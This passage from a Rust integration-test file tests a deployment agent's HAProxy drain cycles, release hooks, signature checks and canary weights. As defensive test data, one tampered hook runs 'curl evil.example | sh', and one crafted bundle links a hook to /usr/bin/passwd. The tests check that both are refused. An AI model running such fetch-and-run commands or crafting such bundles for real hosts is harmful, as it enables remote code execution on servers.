//! The drain cycle and the lifecycle hooks as the agent itself runs them (issue 11): real
//! `serin-agent` processes whose service declares an agent-check port, behind a real HAProxy
//! that polls it. Every activation and rollback is drain → wait until idle → swap → healthy →
//! undrain, with its timings in the results; a release's `validate` and `post-start` hooks gate
//! its activation; the request gate (`--min-requests`) counts the requests HAProxy sent.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::time::{Duration, Instant};

use serin_proto::wire::{OrderPhase, OrderResult, ResultCode};
use serin_tests::agent_fixture::AgentFixture;
use serin_tests::agent_proc::{AgentOptions, SERVICE, free_port};
use serin_tests::demo_release::{Behaviour, DemoRelease};
use serin_tests::haproxy::{BACKEND, Haproxy, Server};
use serin_tests::load::LoadGen;
use serin_tests::orders::{self, Deadlines};
use serin_tests::wait::wait_for;

const LOCALHOST: [u8; 4] = [127, 0, 0, 1];

/// Options of an agent whose service sits behind a load balancer: its agent-check port, plus
/// `traffic_toml` (more `[service.traffic]` keys).
fn behind_lb(name: &str, agent_check: u16, traffic_toml: &str) -> AgentOptions {
    let mut opts = AgentOptions::new(name);
    opts.checks_toml = format!(
        "{}\n[service.traffic]\nagent_check = \"127.0.0.1:{agent_check}\"\n{traffic_toml}\n",
        opts.checks_toml
    );
    opts
}

/// `[service.traffic]` keys reading the sessions of server `name` on HAProxy's `socket`.
fn haproxy_keys(socket: &Path, name: &str, drain_timeout: &str) -> String {
    format!(
        "haproxy_socket = \"{}\"\nhaproxy_server = \"{BACKEND}/{name}\"\ndrain_timeout = \"{drain_timeout}\"",
        socket.display()
    )
}

/// One answer of the agent-check port.
fn agent_check(port: u16) -> String {
    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut answer = String::new();
    s.read_to_string(&mut answer).unwrap();
    answer
}

fn result_in(fx: &AgentFixture, seq: u64, phase: OrderPhase) -> OrderResult {
    fx.results_for(seq)
        .into_iter()
        .find(|r| r.phase() == phase)
        .unwrap_or_else(|| panic!("no {phase:?} result for seq {seq}\n{}", fx.dump()))
}

fn wait_in_rotation(haproxy: &Haproxy, name: &str, dump: &dyn Fn() -> String) {
    wait_for(
        &format!("{name} in rotation"),
        Duration::from_secs(15),
        dump,
        || haproxy.server(name).is_ok_and(|s| s.serving()),
    );
}

#[test]
fn a_rollout_and_a_rollback_over_four_agents_behind_haproxy_fail_no_request() {
    let v1 = DemoRelease::healthy("wired-1.0");
    let v2 = DemoRelease::healthy("wired-2.0");
    let v3 = DemoRelease::build(Behaviour::healthy("wired-3.0").crashing_at_start());
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("admin.sock");
    let mut fleet = Vec::new();
    let mut servers = Vec::new();
    for i in 1..=4 {
        let name = format!("h{i}");
        let check = free_port();
        let fx = AgentFixture::start_with(behind_lb(
            &format!("wired-{name}"),
            check,
            &haproxy_keys(&socket, &name, "10s"),
        ));
        // A first install has nothing serving: no drain.
        fx.install_first(1, &v1);
        servers.push(Server {
            name: name.clone(),
            addr: SocketAddr::from((LOCALHOST, fx.agent.port)),
            agent: Some(SocketAddr::from((LOCALHOST, check))),
        });
        fleet.push((name, fx));
    }
    let haproxy = Haproxy::start(dir.path(), &servers, Duration::from_millis(200)).unwrap();
    let dump = || {
        let hosts: Vec<String> = fleet.iter().map(|(_, fx)| fx.dump()).collect();
        format!(
            "{:?}\n{}\n{}",
            haproxy.stats(),
            haproxy.log_tail(),
            hosts.join("\n")
        )
    };
    for (name, _) in &fleet {
        wait_in_rotation(&haproxy, name, &dump);
    }

    let load = LoadGen::new(haproxy.frontend, "/version", 8).start();
    let t0 = Instant::now();
    let mut evidence = Vec::new();
    // The rollout, one host after the other.
    for (name, fx) in &fleet {
        fx.activate(2, &v2, Deadlines::quick());
        let healthy = fx.wait_phase(2, OrderPhase::Healthy);
        let activated = result_in(fx, 2, OrderPhase::Activated);
        assert!(
            activated.message.contains("drained: idle after"),
            "{name}: the activation's evidence lacks the drain: {}",
            activated.message
        );
        assert!(
            healthy.message.contains("back in rotation after"),
            "{name}: the healthy result lacks the undrain: {}",
            healthy.message
        );
        evidence.push(format!(
            "rollout {name}: {} | {}",
            activated.message, healthy.message
        ));
        wait_in_rotation(&haproxy, name, &dump);
    }
    // A release that crashes at start, on h1: the dead-man switch rolls it back to v2, drained
    // all along, back in rotation only once v2 serves again.
    let (name, fx) = &fleet[0];
    fx.activate(3, &v3, Deadlines::quick());
    let r = fx.wait_outcome(3);
    let r = if r.phase() == OrderPhase::Activated {
        fx.wait_result("the crashing release's rollback", |r| {
            r.seq == 3 && r.phase() == OrderPhase::RolledBack
        })
    } else {
        r
    };
    assert_eq!(r.phase(), OrderPhase::RolledBack, "{name}: {}", r.message);
    assert!(
        r.message.contains("back in rotation"),
        "{name}: the automatic rollback's evidence lacks the undrain: {}",
        r.message
    );
    evidence.push(format!("dead-man rollback {name}: {}", r.message));
    wait_in_rotation(&haproxy, name, &dump);
    // The rollback, ordered by the coordinator, one host after the other.
    for (name, fx) in &fleet {
        fx.send(orders::rollback(4, SERVICE, &v1.id));
        let r = fx.wait_outcome(4);
        assert_eq!(r.phase(), OrderPhase::RolledBack, "{name}: {}", r.message);
        assert!(
            r.message.contains("drained: idle after") && r.message.contains("back in rotation"),
            "{name}: the rollback's evidence lacks the drain cycle: {}",
            r.message
        );
        evidence.push(format!("rollback {name}: {}", r.message));
        wait_in_rotation(&haproxy, name, &dump);
    }
    let took = t0.elapsed();
    let tally = load.stop();
    eprintln!(
        "agent-driven drain cycle over 4 hosts, rollout, a dead-man rollback and an ordered rollback (10 swaps) in {took:?}: {}\n{}",
        tally.summary(),
        evidence.join("\n")
    );
    assert_eq!(tally.failed(), 0, "{}\n{}", tally.summary(), dump());
    assert!(
        tally.ok_by_body.contains_key(&v1.id) && tally.ok_by_body.contains_key(&v2.id),
        "{}",
        tally.summary()
    );
    for (_, fx) in &fleet {
        assert_eq!(fx.wait_consistent(), v1.id);
    }
}

#[test]
fn a_drain_held_open_by_a_client_times_out_and_the_activation_proceeds_saying_so() {
    // v1 answers /healthz only after a minute: a client asking for it through HAProxy holds
    // a session open. The agent's own check probes /version.
    let v1 = DemoRelease::build(Behaviour::healthy("held-1.0").slow_health(60_000));
    let v2 = DemoRelease::healthy("held-2.0");
    let dir = tempfile::tempdir().unwrap();
    let socket = dir.path().join("admin.sock");
    let check = free_port();
    let mut opts = behind_lb("wired-held", check, &haproxy_keys(&socket, "h1", "1500ms"));
    opts.checks_toml = opts.checks_toml.replace("/healthz", "/version");
    let fx = AgentFixture::start_with(opts);
    fx.install_first(1, &v1);
    // A peer keeps the backend serving while h1 drains (the agent refuses to drain the last
    // serving server); in maintenance until the held request is on h1.
    let peer = serin_tests::haproxy::NamedBackends::start(&["peer"], Duration::ZERO).unwrap();
    let haproxy = Haproxy::start(
        dir.path(),
        &[
            Server {
                name: "h1".into(),
                addr: SocketAddr::from((LOCALHOST, fx.agent.port)),
                agent: Some(SocketAddr::from((LOCALHOST, check))),
            },
            Server {
                name: "peer".into(),
                addr: peer.servers[0].1,
                agent: None,
            },
        ],
        Duration::from_millis(200),
    )
    .unwrap();
    haproxy
        .block_on(haproxy.api().set_state(BACKEND, "peer", "maint"))
        .unwrap();
    let dump = || {
        format!(
            "{:?}\n{}\n{}",
            haproxy.stats(),
            haproxy.log_tail(),
            fx.dump()
        )
    };
    wait_in_rotation(&haproxy, "h1", &dump);

    let mut held = TcpStream::connect(haproxy.frontend).unwrap();
    held.write_all(b"GET /healthz HTTP/1.1\r\nhost: serin\r\n\r\n")
        .unwrap();
    wait_for(
        "the held request to open a session to h1",
        Duration::from_secs(10),
        &dump,
        || haproxy.server("h1").is_ok_and(|s| s.scur == 1),
    );
    haproxy
        .block_on(haproxy.api().set_state(BACKEND, "peer", "ready"))
        .unwrap();
    wait_in_rotation(&haproxy, "peer", &dump);
    let started = Instant::now();
    fx.activate(2, &v2, Deadlines::quick());
    let healthy = fx.wait_phase(2, OrderPhase::Healthy);
    let activated = result_in(&fx, 2, OrderPhase::Activated);
    eprintln!(
        "held drain: {} | {} (activation to healthy in {:?})",
        activated.message,
        healthy.message,
        started.elapsed()
    );
    assert!(
        activated.message.contains("drain timed out after")
            && activated
                .message
                .contains("1 session(s) still open; swapping anyway"),
        "the evidence does not say the drain timed out: {}",
        activated.message
    );
    fx.wait_serving(&v2.id);
    wait_in_rotation(&haproxy, "h1", &dump);
    drop(held);
}

#[test]
fn slow_start_raises_the_weight_from_a_low_value_to_full_after_the_swap() {
    let check = free_port();
    // No session count configured: the drain waits its (short) timeout and says so.
    let fx = AgentFixture::start_with(behind_lb(
        "wired-slow-start",
        check,
        "slow_start = \"3s\"\nslow_start_from = 10\ndrain_timeout = \"300ms\"",
    ));
    let v1 = DemoRelease::healthy("ramp-1.0");
    let v2 = DemoRelease::healthy("ramp-2.0");
    fx.install_first(1, &v1);
    assert_eq!(
        agent_check(check),
        "up ready 100%\n",
        "no ramp before a swap"
    );
    fx.activate(2, &v2, Deadlines::quick());
    let activated = result_in(&fx, 2, OrderPhase::Activated);
    assert!(
        activated.message.contains("without a session count"),
        "{}",
        activated.message
    );
    let healthy = fx.wait_phase(2, OrderPhase::Healthy);
    assert!(
        healthy.message.contains("slow start from 10% over 3s"),
        "{}",
        healthy.message
    );
    let weight = |answer: &str| -> u32 {
        answer
            .trim()
            .strip_prefix("up ready ")
            .and_then(|w| w.strip_suffix('%'))
            .and_then(|w| w.parse().ok())
            .unwrap_or_else(|| panic!("not a serving answer: {answer:?}"))
    };
    let first = weight(&agent_check(check));
    let ramp_seen = Instant::now();
    assert!(first < 60, "the ramp starts low, got {first}%");
    let seen = std::cell::RefCell::new(vec![first]);
    wait_for(
        "the weight to reach 100%",
        Duration::from_secs(10),
        &|| format!("weights seen: {:?}", seen.borrow()),
        || {
            let w = weight(&agent_check(check));
            seen.borrow_mut().push(w);
            w == 100
        },
    );
    let seen = seen.into_inner();
    let took = ramp_seen.elapsed();
    eprintln!("slow start: weights {seen:?} over {took:?}");
    assert!(
        seen.windows(2).all(|w| w[0] <= w[1]),
        "the weight fell during the ramp: {seen:?}"
    );
    assert!(
        seen.iter().any(|w| *w > first && *w < 100),
        "no intermediate weight: {seen:?}"
    );
    assert!(
        took >= Duration::from_secs(1),
        "the ramp was too fast for 3s: {took:?}"
    );
}

/// `serin release pack` of `release`'s binary with `hooks` (name, script) into a bundle: the
/// same release id and behaviour, the bundle's bytes as its artifact.
fn bundle(release: &DemoRelease, hooks: &[(&str, &str)]) -> DemoRelease {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let bin = dir.path().join("app");
    std::fs::write(&bin, &release.bytes).unwrap();
    let out = dir.path().join(format!("{}.tar", release.id));
    let mut cmd = std::process::Command::new(serin_tests::binaries::serin());
    cmd.args(["-o", "json", "release", "pack", "--binary"])
        .arg(&bin)
        .arg("--out")
        .arg(&out);
    for (name, script) in hooks {
        let p = dir.path().join(name);
        std::fs::write(&p, script).unwrap();
        // Packed 0755 whatever the file's mode is.
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o600)).unwrap();
        cmd.arg("--hook").arg(format!("{name}={}", p.display()));
    }
    let o = cmd.output().unwrap();
    assert!(
        o.status.success(),
        "serin release pack: {}\n{}",
        o.status,
        String::from_utf8_lossy(&o.stderr)
    );
    let printed: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let bytes = std::fs::read(&out).unwrap();
    let packed = DemoRelease::from_bytes(release.behaviour.clone(), bytes);
    assert_eq!(printed["sha256"].as_str(), Some(packed.sha256.as_str()));
    packed
}

/// A hook script that appends "<release> <hook>" to `hooks.log` in the agent's state directory
/// (its cwd is `<state>/<service>/releases/<id>`), then runs `rest`.
fn logging_hook(rest: &str) -> String {
    format!("#!/bin/sh\necho \"$SERIN_RELEASE $SERIN_HOOK\" >> ../../../hooks.log\n{rest}\n")
}

/// The hooks that ran on host `i` of `fleet`, in order.
fn hooks_ran(fleet: &serin_tests::fleet::Fleet, i: usize) -> Vec<String> {
    std::fs::read_to_string(fleet.hosts[i].agent.state_dir().join("hooks.log"))
        .unwrap_or_default()
        .lines()
        .map(str::to_owned)
        .collect()
}

/// Hooks shipped inside release bundles, through the real path: `serin release pack`,
/// `serin artifact push`, a rollout by the coordinator, the agents staging and unpacking the
/// bundle. A failing `validate` stops the activation before the swap (same process), a failing
/// `post-start` rolls the canary back as HOOK_FAILED with the hook's output in `explain` and
/// counts against the wave's failure budget (the second host never gets the release), and a
/// rollback never runs a hook of the release it leaves.
#[test]
fn hooks_shipped_in_a_bundle_gate_a_real_rollout_and_never_run_for_the_outgoing_release() {
    use serin_tests::fleet::{self, Fleet, Timings, describe_status};
    let fleet = Fleet::start("hooks-bundle", &["a", "b"]);
    let t = Timings::default();
    let pids: Vec<u32> = (0..2)
        .map(|i| fleet.hosts[i].agent.service_pid().unwrap())
        .collect();

    // 1. validate fails on every host: nothing is swapped or restarted. One failure is allowed,
    // so the gate fails only on the second host's own verdict: with none allowed, the first
    // failure rolls the rollout back, and the other host may be told to roll back before its
    // stage finishes and its validate ever runs.
    let v2 = bundle(
        &fleet::healthy("v2"),
        &[(
            "validate",
            &logging_hook("echo 'port 8443 is taken on this host' >&2\nexit 3"),
        )],
    );
    fleet.push(&v2);
    let id = fleet.start_rollout("v2", &["--waves", "100%", "--failure-threshold", "1"], &t);
    let s = fleet.wait_finished(&id, fleet::TIMEOUT);
    assert_ne!(s.state().as_str(), "succeeded", "{}", describe_status(&s));
    assert_eq!(s.waves[0].failed, 2, "{}", describe_status(&s));
    for (i, pid) in pids.iter().enumerate() {
        fleet.wait_serving(i, fleet::BASELINE);
        assert_eq!(
            fleet.hosts[i].agent.service_pid().unwrap(),
            *pid,
            "host #{i} was restarted\n{}",
            fleet.dump()
        );
        assert_eq!(hooks_ran(&fleet, i), vec!["v2 validate"]);
        // The bundle was unpacked into its release: binary and hook, executable.
        let dir = fleet.hosts[i].agent.service_dir().join("releases/v2");
        let meta = fleet.hosts[i].agent.release_json("v2").unwrap();
        assert_eq!(meta["sha256"].as_str(), Some(v2.sha256.as_str()));
        assert_eq!(meta["size"].as_u64(), Some(fleet::healthy("v2").size));
        assert_eq!(meta["artifact_size"].as_u64(), Some(v2.size));
        assert_eq!(meta["hooks"], serde_json::json!(["validate"]));
        assert!(dir.join("hooks/validate").exists() && !dir.join("hooks/post-start").exists());
    }
    let explain = fleet.cli(&["rollout", "explain", &id]);
    let text = format!("{}{}", explain.stdout, explain.stderr);
    assert!(
        text.contains("hook_failed")
            && text.contains("validate hook failed: exit status: 3")
            && text.contains("port 8443 is taken on this host"),
        "{explain}"
    );

    // 2. post-start fails on the canary: it rolls back (HOOK_FAILED, output in the evidence);
    // the failure stops the rollout before the second host gets the release.
    let v3 = bundle(
        &fleet::healthy("v3"),
        &[
            ("validate", &logging_hook("exit 0")),
            (
                "post-start",
                &logging_hook("echo 'cache warm-up failed: 0 of 120 keys'\nexit 1"),
            ),
        ],
    );
    fleet.push(&v3);
    let id = fleet.start_rollout("v3", &["--waves", "1,100%"], &t);
    let s = fleet.wait_finished(&id, fleet::TIMEOUT);
    assert_eq!(
        s.state().as_str(),
        "rolled_back",
        "{}\n{}",
        describe_status(&s),
        fleet.dump()
    );
    let canary = fleet.wave_hosts(&s, 0);
    assert_eq!(canary.len(), 1, "{}", describe_status(&s));
    let (c, other) = (canary[0], 1 - canary[0]);
    fleet.wait_serving(c, fleet::BASELINE);
    fleet.wait_serving(other, fleet::BASELINE);
    assert!(
        !fleet.hosts[other]
            .agent
            .releases()
            .contains(&"v3".to_owned()),
        "the second host got v3\n{}",
        fleet.dump()
    );
    // v3's hooks ran once each, in its activation; its rollback ran none of them.
    assert_eq!(
        hooks_ran(&fleet, c),
        vec!["v2 validate", "v3 validate", "v3 post-start"]
    );
    let explain = fleet.cli(&["rollout", "explain", &id]);
    let text = format!("{}{}", explain.stdout, explain.stderr);
    assert!(
        text.contains("the agent rolled back (hook_failed: release v3 failed its post-start hook")
            && text.contains("cache warm-up failed: 0 of 120 keys"),
        "{explain}"
    );
    let w0 = &s.waves[0];
    assert_eq!((w0.failed, w0.succeeded), (1, 0), "{}", describe_status(&s));

    // 3. A release whose hooks pass goes out; rolling the rollout back to v1 runs none of them.
    let v4 = bundle(
        &fleet::healthy("v4"),
        &[
            ("validate", &logging_hook("exit 0")),
            ("post-start", &logging_hook("exit 0")),
        ],
    );
    fleet.push(&v4);
    let id = fleet.start_rollout("v4", &["--waves", "100%"], &t);
    let s = fleet.wait_finished(&id, fleet::TIMEOUT);
    assert_eq!(
        s.state().as_str(),
        "succeeded",
        "{}\n{}",
        describe_status(&s),
        fleet.dump()
    );
    fleet.assert_all_serving(0..2, "v4");
    let before: Vec<Vec<String>> = (0..2).map(|i| hooks_ran(&fleet, i)).collect();
    for b in &before {
        assert!(
            b.ends_with(&["v4 validate".to_owned(), "v4 post-start".to_owned()]),
            "{b:?}"
        );
    }
    fleet.control("rollback", &id);
    let s = fleet.wait_finished(&id, fleet::TIMEOUT);
    assert_eq!(
        s.state().as_str(),
        "rolled_back",
        "{}\n{}",
        describe_status(&s),
        fleet.dump()
    );
    fleet.assert_all_serving(0..2, fleet::BASELINE);
    for (i, b) in before.iter().enumerate() {
        assert_eq!(
            &hooks_ran(&fleet, i),
            b,
            "a hook ran during the rollback on host #{i}"
        );
    }
}

#[test]
fn a_validate_hook_past_its_timeout_is_killed_and_fails_the_activation() {
    let mut opts = AgentOptions::new("wired-hook-timeout");
    opts.checks_toml = format!("{}\n[service.hooks]\ntimeout = \"1s\"\n", opts.checks_toml);
    let fx = AgentFixture::start_with(opts);
    let v1 = DemoRelease::healthy("slowhook-1.0");
    let v2 = bundle(
        &DemoRelease::healthy("slowhook-2.0"),
        &[("validate", "#!/bin/sh\nexec sleep 600\n")],
    );
    fx.install_first(1, &v1);
    fx.publish(&v2);
    let sent = Instant::now();
    fx.send(orders::activate(
        3,
        v2.wire(SERVICE, ""),
        Deadlines::quick(),
    ));
    let r = fx.wait_outcome(3);
    let took = sent.elapsed();
    assert_eq!(r.phase(), OrderPhase::Failed, "{}", r.message);
    assert_eq!(r.code(), ResultCode::HookFailed, "{}", r.message);
    assert!(
        r.message
            .contains("validate hook timed out after 1s and was killed"),
        "{}",
        r.message
    );
    assert!(took < Duration::from_secs(10), "answered after {took:?}");
    assert_eq!(fx.agent.current_release().as_deref(), Some(v1.id.as_str()));
}

/// `serin keygen` and `serin release sign` work unchanged on a bundle: an agent pinning the key
/// activates the signed bundle (the signature covers the whole bundle, hooks included, and its
/// `validate` runs), and refuses the same release with a hook changed after signing, before
/// fetching anything.
#[test]
fn a_signed_bundle_is_verified_whole_and_a_changed_hook_is_refused() {
    use serin_tests::agent_proc::AgentProc;
    use serin_tests::fake_coordinator::FakeCoordinator;
    let dir = tempfile::tempdir().unwrap();
    let serin = |args: &[&str]| {
        let o = std::process::Command::new(serin_tests::binaries::serin())
            .args(args)
            .output()
            .unwrap();
        assert!(
            o.status.success(),
            "serin {args:?}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
    };
    let keys = dir.path().display().to_string();
    serin(&["keygen", "--out-dir", &keys, "--name", "rel"]);
    let public = std::fs::read_to_string(dir.path().join("rel.pub")).unwrap();

    let coord = FakeCoordinator::start();
    let agent = AgentProc::configure(&coord.url(), &AgentOptions::new("wired-signed-bundle"));
    let config = std::fs::read_to_string(agent.config_path()).unwrap();
    let pinned = config.replacen(
        "stop_timeout = \"2s\"",
        &format!(
            "stop_timeout = \"2s\"\nsigning_keys = [\"{}\"]",
            public.trim()
        ),
        1,
    );
    assert_ne!(pinned, config);
    std::fs::write(agent.config_path(), pinned).unwrap();
    agent.spawn(None);
    let fx = AgentFixture { agent, coord };
    fx.wait_attached(1);

    let v1 = DemoRelease::healthy("signed-1.0");
    let v1 = bundle(&v1, &[("validate", &logging_hook("exit 0"))]);
    let file = dir.path().join("v1.tar");
    std::fs::write(&file, &v1.bytes).unwrap();
    let file = file.display().to_string();
    serin(&[
        "release",
        "sign",
        &file,
        "--key",
        &format!("{keys}/rel.key"),
        "-s",
        SERVICE,
        "-r",
        &v1.id,
        "--counter",
        "1",
    ]);
    let manifest = std::fs::read_to_string(format!("{file}.manifest")).unwrap();
    fx.publish(&v1);
    let mut w = v1.wire(SERVICE, "");
    w.manifest = manifest.clone();
    fx.send(orders::activate(1, w, Deadlines::quick()));
    let r = fx.wait_result("v1 healthy", |r| {
        r.seq == 1 && matches!(r.phase(), OrderPhase::Healthy | OrderPhase::Failed)
    });
    assert_eq!(
        r.phase(),
        OrderPhase::Healthy,
        "{}\n{}",
        r.message,
        fx.dump()
    );
    fx.wait_serving(&v1.id);
    let ran = std::fs::read_to_string(fx.agent.state_dir().join("hooks.log")).unwrap();
    assert_eq!(ran, "signed-1.0 validate\n");

    // The same release id and manifest, a bundle whose hook was changed after signing.
    let evil = bundle(
        &DemoRelease::healthy("signed-1.0"),
        &[("validate", &logging_hook("curl evil.example | sh"))],
    );
    assert_ne!(evil.sha256, v1.sha256);
    fx.publish(&evil);
    let mut w = evil.wire(SERVICE, "");
    w.manifest = manifest;
    fx.send(orders::stage(2, w));
    let r = fx.wait_outcome(2);
    assert_eq!(r.phase(), OrderPhase::Failed, "{}", r.message);
    assert_eq!(r.code(), ResultCode::SignedHashMismatch, "{}", r.message);
}

/// A hostile bundle (a hook that is a symbolic link out of the release) fails its stage with
/// BAD_BUNDLE naming the entry; nothing of it stays on disk and the current release serves on.
#[test]
fn a_hostile_bundle_fails_its_stage_and_leaves_nothing_behind() {
    let fx = AgentFixture::start("wired-hostile-bundle");
    let v1 = DemoRelease::healthy("hostile-1.0");
    fx.install_first(1, &v1);
    let pid = fx.agent.service_pid().unwrap();
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_ustar();
    h.set_path("serin-bundle").unwrap();
    h.set_size(16);
    h.set_cksum();
    b.append(&h, &b"serin bundle v1\n"[..]).unwrap();
    let mut h = tar::Header::new_ustar();
    h.set_path("hooks/post-start").unwrap();
    h.set_entry_type(tar::EntryType::Symlink);
    h.set_link_name("/usr/bin/passwd").unwrap();
    h.set_size(0);
    h.set_cksum();
    b.append(&h, std::io::empty()).unwrap();
    let evil = DemoRelease::from_bytes(Behaviour::healthy("hostile-2.0"), b.into_inner().unwrap());
    fx.publish(&evil);
    fx.send(orders::activate(
        2,
        evil.wire(SERVICE, ""),
        Deadlines::quick(),
    ));
    let r = fx.wait_outcome(2);
    assert_eq!(r.phase(), OrderPhase::Failed, "{}", r.message);
    assert_eq!(r.code(), ResultCode::BadBundle, "{}", r.message);
    assert!(
        r.message
            .contains("bundle entry \"hooks/post-start\" is a symbolic link"),
        "{}",
        r.message
    );
    assert_eq!(fx.agent.releases(), vec![v1.id.clone()]);
    assert!(
        fx.agent.staging_entries().is_empty(),
        "{:?}",
        fx.agent.staging_entries()
    );
    assert_eq!(fx.agent.current_release().as_deref(), Some(v1.id.as_str()));
    assert_eq!(fx.agent.service_pid().unwrap(), pid);
}

#[test]
fn the_orders_traffic_weight_is_answered_once_healthy_and_a_weight_step_restarts_nothing() {
    let check = free_port();
    let fx = AgentFixture::start_with(behind_lb(
        "wired-weight",
        check,
        "drain_timeout = \"300ms\"",
    ));
    let v1 = DemoRelease::healthy("weight-1.0");
    let v2 = DemoRelease::healthy("weight-2.0");
    let v3 = DemoRelease::build(Behaviour::healthy("weight-3.0").crashing_at_start());
    fx.install_first(1, &v1);
    assert_eq!(agent_check(check), "up ready 100%\n");

    // A canary at 10 %: drained during its swap, answered at 10 % once healthy.
    fx.publish(&v2);
    fx.send(orders::activate_weighted(
        2,
        v2.wire(SERVICE, ""),
        Deadlines::quick(),
        10,
    ));
    let healthy = fx.wait_phase(2, OrderPhase::Healthy);
    assert!(
        healthy.message.contains("traffic weight 10% (was 100%)")
            && healthy.message.contains("ready at 10%"),
        "{}",
        healthy.message
    );
    assert_eq!(agent_check(check), "up ready 10%\n");

    // A ramp step: the same release at 50 %, nothing restarted.
    let pid = fx.agent.service_pid().unwrap();
    fx.send(orders::activate_weighted(
        3,
        v2.wire(SERVICE, ""),
        Deadlines::quick(),
        50,
    ));
    let r = fx.wait_phase(3, OrderPhase::Healthy);
    assert!(r.message.contains("already current"), "{}", r.message);
    assert_eq!(agent_check(check), "up ready 50%\n");
    assert_eq!(
        fx.agent.service_pid().unwrap(),
        pid,
        "a weight step restarted the service"
    );

    // A release that crashes at start with a weight of its own never gets it: rolled back at
    // the weight from before.
    fx.publish(&v3);
    fx.send(orders::activate_weighted(
        4,
        v3.wire(SERVICE, ""),
        Deadlines::quick(),
        100,
    ));
    let r = fx.wait_result("the crashing release's rollback", |r| {
        r.seq == 4 && matches!(r.phase(), OrderPhase::RolledBack | OrderPhase::Failed)
    });
    assert_eq!(r.phase(), OrderPhase::RolledBack, "{}", r.message);
    fx.wait_serving(&v2.id);
    assert_eq!(agent_check(check), "up ready 50%\n");
}

/// `[service]` keys of fleet host `i` behind HAProxy: its agent-check port and the server it is.
/// Two real agents of a fleet behind one HAProxy backend (servers `h0`, `h1`), each answering
/// agent-check on its own port and reading sessions from HAProxy's admin socket; both in rotation
/// when [`TwoBehindHaproxy::start`] returns.
struct TwoBehindHaproxy {
    fleet: serin_tests::fleet::Fleet,
    haproxy: Haproxy,
    /// The agents' agent-check ports, by host index.
    checks: [u16; 2],
    _dir: tempfile::TempDir,
}

impl TwoBehindHaproxy {
    fn start(name: &str, inter: Duration) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let socket = dir.path().join("admin.sock");
        let checks = [free_port(), free_port()];
        let fleet = serin_tests::fleet::Fleet::start_configured(name, &["a", "b"], &|i| {
            fleet_traffic_toml(&checks, &socket, i)
        });
        let servers: Vec<Server> = (0..2)
            .map(|i| Server {
                name: format!("h{i}"),
                addr: SocketAddr::from((LOCALHOST, fleet.hosts[i].agent.port)),
                agent: Some(SocketAddr::from((LOCALHOST, checks[i]))),
            })
            .collect();
        let haproxy = Haproxy::start(dir.path(), &servers, inter).unwrap();
        let wired = Self {
            fleet,
            haproxy,
            checks,
            _dir: dir,
        };
        for s in &servers {
            wait_in_rotation(&wired.haproxy, &s.name, &|| wired.dump());
        }
        wired
    }

    /// HAProxy's stats and log, and the fleet's state, for a failure message.
    fn dump(&self) -> String {
        format!(
            "{:?}\n{}\n{}",
            self.haproxy.stats(),
            self.haproxy.log_tail(),
            self.fleet.dump()
        )
    }
}

fn fleet_traffic_toml(checks: &[u16], socket: &Path, i: usize) -> String {
    format!(
        "\n[service.traffic]\nagent_check = \"127.0.0.1:{}\"\n{}\n",
        checks[i],
        haproxy_keys(socket, &format!("h{i}"), "5s")
    )
}

/// Polls until HAProxy weighs `server` at `weight`; returns how long after `since` the agent
/// answered `answer` on `check` and how long after that HAProxy showed the weight.
fn wait_weight_step(
    haproxy: &Haproxy,
    server: &str,
    check: u16,
    answer: &str,
    weight: u32,
    dump: &dyn Fn() -> String,
) -> Duration {
    let deadline = Instant::now() + Duration::from_secs(15);
    let mut answered: Option<Instant> = None;
    loop {
        if answered.is_none() && agent_check(check) == answer {
            answered = Some(Instant::now());
        }
        if let Some(at) = answered
            && haproxy.server(server).is_ok_and(|s| s.weight == weight)
        {
            return at.elapsed();
        }
        assert!(
            Instant::now() < deadline,
            "{server}: agent answered {answer:?}: {answered:?}; haproxy never showed weight {weight}\n{}",
            dump()
        );
        std::thread::sleep(Duration::from_millis(10));
    }
}

#[test]
fn a_coordinator_weighted_canary_gets_its_share_through_haproxy_and_full_weight_once_its_wave_passes()
 {
    use serin_tests::fleet::{self, Timings};
    const INTER: Duration = Duration::from_millis(300);
    let wired = TwoBehindHaproxy::start("traffic-weighted", INTER);
    let (fleet, haproxy, checks) = (&wired.fleet, &wired.haproxy, wired.checks);
    let dump = || wired.dump();

    let v2 = fleet::healthy("v2");
    fleet.push(&v2);
    let timings = Timings {
        bake: "100ms",
        canary_bake: Some("10m"),
        min_healthy: "300ms",
        ..Timings::default()
    };
    let id = fleet.start_rollout(
        &v2.id,
        &["--waves", "1,100%", "--canary-weight", "10%"],
        &timings,
    );
    let s = fleet.wait_rollout(&id, "the canary baking", fleet::TIMEOUT, |s| {
        s.waves
            .first()
            .is_some_and(|w| w.state().as_str() == "baking")
    });
    let spec = s.spec.clone().unwrap();
    assert_eq!(
        spec.weights,
        ["10%", "100%"],
        "the stored spec spells the weights out"
    );
    let canary = s
        .hosts
        .iter()
        .find(|h| h.wave == 0)
        .unwrap()
        .host_id
        .clone();
    let ci = fleet.index_of(&canary);
    let (cname, bname) = (format!("h{ci}"), format!("h{}", 1 - ci));
    wait_for(
        "the canary at 10 % of its weight in haproxy",
        Duration::from_secs(15),
        &dump,
        || {
            haproxy
                .server(&cname)
                .is_ok_and(|s| s.serving() && s.weight == 10)
        },
    );
    let shown = fleet.cli(&["rollout", "status", &id]);
    assert!(
        shown.stdout.contains("traffic weights 10%,100%"),
        "status does not show the weights:\n{shown}"
    );

    // 10 % of the canary's configured weight against a baseline at 100 %: 10/110 of requests.
    let tally = LoadGen::new(haproxy.frontend, "/version", 8).run(2_000);
    assert_eq!(tally.failed(), 0, "{}\n{}", tally.summary(), dump());
    let share = *tally.ok_by_body.get(&v2.id).unwrap_or(&0) as f64 * 100.0 / tally.ok() as f64;
    eprintln!(
        "coordinator canary at 10%: {share:.2}% of {} requests ({:?})",
        tally.ok(),
        tally.ok_by_body
    );
    assert!(
        (8.0..=12.0).contains(&share),
        "canary share {share:.2}% is not within 10 ± 2 points: {}",
        tally.summary()
    );

    // The canary's wave passes: its confirm takes it to full weight, HAProxy within one
